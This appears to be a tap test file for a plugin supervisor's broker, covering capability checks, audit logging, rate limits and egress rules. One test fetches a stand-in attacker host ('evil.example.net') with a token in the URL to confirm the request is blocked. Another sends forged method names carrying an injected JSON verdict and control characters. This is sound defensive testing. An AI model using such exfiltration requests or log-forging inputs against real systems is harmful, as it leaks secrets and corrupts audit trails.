import t from 'tap';
import { capabilityNames } from '../../protocol/capabilities.ts';
import { HostError } from '../../protocol/errors.ts';
import { defaultRates, type HostMethod, hostMethodNames, hostMethods } from '../../protocol/host-methods.ts';
import type { AuditEntry } from '../../supervisor/audit.ts';
import { createBroker, type Grant, type HostHandlers } from '../../supervisor/broker.ts';
import { createRateLimiter } from '../../supervisor/rate-limiter.ts';
import { askable, type State, states } from '../../supervisor/runtime-states.ts';
import { createFakeClock } from '../support/fake-clock.ts';

const context = { signal: new AbortController().signal };
const wide: Grant = {
  pluginId: 'example.test',
  capabilities: new Set(capabilityNames),
  egress: ['api.example.com:443'],
  readBuckets: ['default'],
};

/** A broker on handlers that answer each method's sample, and a book that shows the order of things. */
function open(
  options: {
    grant?: Grant;
    state?: State;
    perSecond?: number;
    append?: (entry: AuditEntry) => Promise<void>;
    handle?: (method: HostMethod) => Promise<unknown>;
  } = {},
) {
  const clock = createFakeClock();
  const order: string[] = [];
  const rows: AuditEntry[] = [];
  const handlers = Object.fromEntries(
    hostMethodNames.map((method) => [
      method,
      async (_params: unknown, call: { entry: AuditEntry }) => {
        order.push(`handler ${method}`);
        if (hostMethods[method].effect === 'database') rows.push(call.entry);
        return options.handle ? options.handle(method) : hostMethods[method].sample.result;
      },
    ]),
  ) as unknown as HostHandlers; // one for each name of the table
  const rate = () => createRateLimiter({ perSecond: options.perSecond ?? 1e6, burst: options.perSecond ?? 1e6 }, clock.monotonicMs);
  const answer = createBroker({
    grant: options.grant ?? wide,
    generation: 3,
    askable: () => askable[options.state ?? 'ready'],
    actor: () => 't-1',
    handlers,
    rates: { read: rate(), effect: rate(), fetch: rate(), notify: rate(), log: rate() },
    append:
      options.append ??
      (async (entry) => {
        await Promise.resolve();
        order.push(`durable ${entry.kind}`);
        rows.push(entry);
      }),
    appendDenial: (entry) => void rows.push(entry),
    clock,
  });
  const dispatch = async (...asked: Parameters<typeof answer>) => answer(...asked);
  return { dispatch, rows, order, clock };
}

const settle = () => new Promise((resolve) => setImmediate(resolve));

for (const method of hostMethodNames) {
  const { capability, effect, sample } = hostMethods[method];
  for (const granted of [true, false]) {
    for (const state of states) {
      const ownOnly = method.startsWith('kv.') || method.startsWith('log.');
      const possible = askable[state] === 'all' || (askable[state] === 'own' && ownOnly);
      const verdict = !possible ? 'invalid-transition' : granted ? 'allow' : 'capability-denied';
      t.test(
        `given a ${state} plugin ${granted ? 'with' : 'without'} ${capability}, when it asks ${method}, then the verdict is ${verdict}, in one row`,
        async (t) => {
          const capabilities = new Set(capabilityNames.filter((name) => granted || name !== capability));
          const { dispatch, rows, order } = open({ grant: { ...wide, capabilities }, state });

          const outcome = await dispatch(method, sample.params, context).then(
            () => 'allow',
            (error: HostError) => error.code,
          );
          await settle();

          t.equal(outcome, verdict);
          const decisions = rows.filter((row) => row.kind === 'host.decision');
          t.match(decisions, [
            {
              plugin: 'example.test',
              generation: 3,
              actor: 't-1',
              method,
              verdict: verdict === 'allow' ? 'allow' : 'deny',
              code: verdict === 'allow' ? undefined : verdict,
            },
          ]);
          t.equal(decisions.length, 1);
          t.equal(order.includes(`handler ${method}`), verdict === 'allow', 'the handler runs only when allowed');
          if (verdict === 'allow' && effect === 'outside')
            t.same(order.slice(0, 3), ['durable host.decision', `handler ${method}`, 'durable host.outcome']);
          if (verdict === 'capability-denied') {
            const denial = await dispatch(method, sample.params, context).catch((error: HostError) => error.details);
            t.match(denial, { pointer: '/capabilities/-', line: `"${capability}"`, risk: /read|write|host/ });
          }
        },
      );
    }
  }
}

for (const method of hostMethodNames) {
  t.test(`given ${method}, when its sample is parsed, then the manual’s example is valid`, async (t) => {
    const { params, result, sample, auditFields } = hostMethods[method];
    t.ok(params.safeParse(sample.params).success);
    t.ok(result.safeParse(sample.result).success);
    t.notOk(params.safeParse({ ...sample.params, surprise: 1 }).success, 'unknown fields are refused');
    t.same(
      auditFields.filter((field) => !(field in params.shape)),
      [],
      'its audit fields are its own',
    );
    t.same(
      auditFields.filter((field) =>
        ['value', 'body', 'body_base64', 'headers', 'url', 'text', 'title', 'message', 'fields'].includes(field),
      ),
      [],
      'none of them holds content',
    );
  });
}

t.test(
  'given a method that nobody knows, when it is asked, then it is refused and recorded, with a name that forges nothing',
  async (t) => {
    const { dispatch, rows } = open();
    for (const name of ['kv.steal', '__proto__', 'constructor', 'x\n{"verdict":"allow"}\u202e', 'y'.repeat(1000)]) {
      await t.rejects(dispatch(name, {}, context), { code: 'method-not-found' });
    }
    t.equal(rows.length, 5);
    t.ok(rows.every((row) => row.verdict === 'deny' && /^[\x20-\x7e]{1,64}$/.test(row.method ?? '')));
  },
);

t.test('given params that do not fit, when they come, then the refusal names the place, and no value stands in the row', async (t) => {
  const { dispatch, rows } = open();
  await t.rejects(dispatch('kv.put', { key: 'a/b', value: 'secret' }, context), { code: 'invalid-params', details: { pointer: '/key' } });
  await t.rejects(dispatch('kv.put', { key: 'a', value: 7 }, context), { code: 'invalid-params', details: { pointer: '/value' } });
  await t.rejects(dispatch('kv.get', null, context), { code: 'invalid-params' });
  await t.rejects(dispatch('kv.get', [1], context), { code: 'invalid-params' });
  t.notMatch(JSON.stringify(rows), /secret/);
});

t.test('given a rate, when it is used up, then the next is refused until time has passed', async (t) => {
  const { dispatch, clock } = open({ perSecond: 2 });
  const get = () => dispatch('kv.get', { key: 'a' }, context);
  await get();
  await get();
  await t.rejects(get(), { code: 'rate-limited', details: { rule: 'rate-read' } });
  await clock.advance(500);
  await get();
});

t.test('given an audit that cannot be written, when effects are asked, then they are refused and not done, and reads go on', async (t) => {
  const { dispatch, order } = open({ append: () => Promise.reject(new HostError('storage-unavailable', 'the disk is full')) });
  await t.rejects(dispatch('log.write', { message: 'hello' }, context), { code: 'storage-unavailable' });
  t.same(order, []);
  await dispatch('kv.get', { key: 'a' }, context);
  t.same(order, ['handler kv.get']);
});

t.test('given reads whose rows are not committed, when the first is over 50 ms old, then the next read waits for the commit', async (t) => {
  const commits: (() => void)[] = [];
  const { dispatch, clock, order } = open({ append: () => new Promise((resolve) => commits.push(resolve)) });
  await dispatch('kv.get', { key: 'a' }, context);
  await clock.advance(51);
  const second = dispatch('kv.get', { key: 'b' }, context);
  await settle();
  t.equal(order.length, 1, 'the second has not been done');
  for (const commit of commits.splice(0)) commit();
  await second;
  t.equal(order.length, 2);
});

t.test('given a handler that fails, when the effect is outside, then its outcome row has the code', async (t) => {
  const { dispatch, rows } = open({
    handle: async () => {
      throw new HostError('unavailable', 'no route');
    },
  });
  await t.rejects(dispatch('http.fetch', { url: 'https://api.example.com/' }, context), { code: 'unavailable' });
  await settle();
  t.match(
    rows.map(({ kind, verdict, code }) => [kind, verdict, code]),
    [
      ['host.decision', 'allow', undefined],
      ['host.outcome', null, 'unavailable'],
    ],
  );
});

t.test(
  'given a bucket or a host that the manifest does not name, when it is asked for, then the refusal gives the line to add',
  async (t) => {
    const { dispatch, rows } = open();
    await t.rejects(dispatch('kv.get', { key: 'a', bucket: 'other' }, context), {
      code: 'capability-denied',
      details: { pointer: '/kv/read_buckets/-', line: '"other"' },
    });
    await t.rejects(dispatch('http.fetch', { url: 'https://evil.example.net/?token=hunter2' }, context), {
      code: 'egress-blocked',
      details: { line: '"evil.example.net:443"' },
    });
    t.same(
      rows.map((row) => row.verdict),
      ['deny', 'deny'],
    );
    t.notMatch(JSON.stringify(rows), /hunter2/);
    await dispatch('kv.get', { key: 'a', bucket: 'default' }, context);
  },
);

t.test('given the default rates, when they are read, then each class has one', async (t) => {
  t.same(new Set(hostMethodNames.map((name) => hostMethods[name].rate)), new Set(Object.keys(defaultRates)));
});
